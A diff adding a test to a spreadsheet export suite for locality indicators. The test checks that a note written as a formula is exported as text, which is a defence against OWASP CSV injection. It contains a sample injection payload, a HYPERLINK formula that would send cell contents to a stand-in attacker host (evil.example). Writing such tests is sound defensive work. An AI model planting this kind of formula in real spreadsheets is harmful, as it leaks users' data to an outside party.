@@ -157,4 +157,16 @@ describe('the spreadsheet import', () => {
     expect(lines).toHaveLength(1)
     expect(lines[0]).toMatch(/^Phường Lê Chân,2027,H1,40000,25000,39000,12000,1500,11000,.*,97\.5,54,48,6,44$/)
   })
+
+  it('a note typed as a formula reaches the evaluator’s Excel as text, never as a formula (OWASP CSV injection)', async () => {
+    const locality = await idByName(payload, 'localities', 'Phường Hải An')
+    await payload.create({
+      collection: 'indicators',
+      data: { locality, year: 2029, period: 'h1', ...counts, note: '=HYPERLINK("http://evil.example/?d="&A2;"Xem")' } as never,
+    })
+    const res = await get('/api/indicators/export?year=2029&period=h1&format=csv')
+    const [, line] = Buffer.from(await res.arrayBuffer()).subarray(3).toString('utf8').trim().split('\r\n')
+    // The quote before "=" keeps it text; the counts after it are still plain numbers.
+    expect(line).toMatch(/^Phường Hải An,2029,H1,40000,25000,38400,12000,1500,11000,"'=HYPERLINK\(""http:\/\/evil\.example\/\?d=""&A2;""Xem""\)",96,/)
+  })
 })
